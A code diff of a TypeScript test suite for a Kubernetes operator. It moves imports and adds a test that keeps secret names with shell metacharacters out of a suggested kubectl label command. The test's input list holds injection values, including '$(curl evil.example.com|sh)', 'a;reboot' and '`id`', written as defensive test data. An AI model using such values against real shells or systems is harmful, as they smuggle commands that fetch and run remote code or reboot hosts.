@@ -1,10 +1,10 @@
 import assert from "node:assert/strict";
-import type { Use } from "../../runtime/definition/definition";
+import type { KubernetesObject } from "../../runtime/base/objects";
 import type { KubernetesClient } from "../../runtime/kubernetes/client";
 import { ApiError } from "../../runtime/kubernetes/errors";
-import type { KubernetesObject } from "../../runtime/kubernetes/objects";
-import { DirectUse } from "../../runtime/uses/directUse";
-import { gatherUsed, type UsedSource } from "../../runtime/uses/used";
+import { DirectUse } from "../../runtime/observe/uses/directUse";
+import { gatherUsed, type UsedSource } from "../../runtime/observe/uses/used";
+import type { Use } from "../../runtime/operator/definition";
 import { failureOf } from "./support/failures";
 import { observed, widget } from "./support/objects";
 
@@ -65,6 +65,21 @@ describe("gatherUsed", () => {
       });
       assert.deepEqual(gathered, { used: { mounts: [] }, warnings: [], secrets: [] });
     });
+
+  it("tells how to label the Secrets that are not given, and puts no other text of an object into that command", async () => {
+    const SECRET = { apiVersion: "v1", kind: "Secret", plural: "secrets" };
+    const noteOf = async (...list: string[]) =>
+      (await gather({ ...SECRET, name: "spec.list[*]" }, list, "reconcile")).warnings[0]?.note ?? "";
+    const command = /kubectl -n shop label secret ([^`]+) argosy\.dev\/used-by=argosy\.shop\./;
+    assert.equal(command.exec(await noteOf("one", "two.three"))?.[1], "one two.three");
+    const evil = ["$(curl evil.example.com|sh)", "--all", "-n", "a;reboot", "a b", "`id`", "Upper", "~", "*"];
+    const note = await noteOf("one", ...evil);
+    assert.equal(command.exec(note)?.[1], "one");
+    for (const name of evil) assert.ok(note.includes(` shop/${name}`), name);
+    const other = await noteOf(...evil);
+    assert.doesNotMatch(other, /kubectl/);
+    assert.match(other, /argosy\.dev\/used-by=argosy\.shop/);
+  });
 
   it("fails if all of it is larger than 8 MiB, and does not keep an object from going", async () => {
     const large = observed("ConfigMap", { data: { text: "x".repeat(1024 * 1024) } }, { name: "a" });
